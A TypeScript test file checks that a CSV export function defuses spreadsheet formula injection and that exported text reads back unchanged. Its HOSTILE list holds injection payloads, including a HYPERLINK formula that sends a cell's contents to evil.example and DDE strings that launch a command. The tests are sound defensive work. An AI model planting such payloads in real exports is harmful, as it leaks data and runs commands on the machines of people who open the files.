import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../../cli/roster/table.ts';
import { csvField, formatCsv, neutralizeFormula, restoreNeutralized } from '../../../functions/core/formats/csv.ts';

/** Cells a hostile center or supervisor name could hold, each of which a spreadsheet would run. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('the CSV writer', () => {
  it('prefixes every cell a spreadsheet would run as a formula with an apostrophe', () => {
    // Act
    const fields = HOSTILE.map(neutralizeFormula);

    // Assess
    for (const [i, field] of fields.entries()) expect(field).toBe(`'${HOSTILE[i]}`);
    expect(neutralizeFormula('玄武区政务服务中心')).toBe('玄武区政务服务中心');
    expect(neutralizeFormula('a=b')).toBe('a=b');
  });

  it('writes numbers as numbers, negative ones too, and quotes what needs quoting', () => {
    // Act / Assess
    expect(csvField(-3.5)).toBe('-3.5');
    expect(csvField('-3.5')).toBe("'-3.5");
    expect(csvField(null)).toBe('');
    expect(csvField('a,"b"')).toBe('"a,""b"""');
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
  });

  it('writes a BOM and CRLF line ends', () => {
    // Act
    const csv = formatCsv([
      ['名称 name', '得分 score'],
      ['=1+1', 92.5],
    ]);

    // Assess
    expect(csv).toBe("\ufeff名称 name,得分 score\r\n'=1+1,92.5\r\n");
  });

  it('reads back, through the roster reader, exactly the text it wrote, hostile or not', () => {
    // Prepare: any text, with formula starts, quotes, commas and line breaks likely
    const text = fc.oneof(
      fc.string(),
      fc.constantFrom(...HOSTILE),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '"', ','), fc.string()).map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        // Keep rows the reader does not skip as blank, and cells that are not an apostrophe-prefixed
        // formula already (those read back without their apostrophe, as spreadsheets show them).
        const kept = rows
          .map((cells) => cells.map((c) => (restoreNeutralized(c) === c ? c : `x${c}`)))
          .filter((cells) => cells.some((c) => c.trim() !== ''));
        fc.pre(kept.length > 0);

        // Act
        const read = parseCsv(formatCsv(kept).replace(/^\ufeff/, ''), ',');

        // Assess
        expect(read.map((r) => r.cells)).toEqual(kept);
      }),
    );
  });

  it('reads an apostrophe-kept formula as its text and leaves other apostrophes alone', () => {
    // Act / Assess
    expect(restoreNeutralized("'=SUM(A1)")).toBe('=SUM(A1)');
    expect(restoreNeutralized("'+86 25 1234")).toBe('+86 25 1234');
    expect(restoreNeutralized("'s-Hertogenbosch")).toBe("'s-Hertogenbosch");
    expect(restoreNeutralized("O'Brien")).toBe("O'Brien");
  });
});
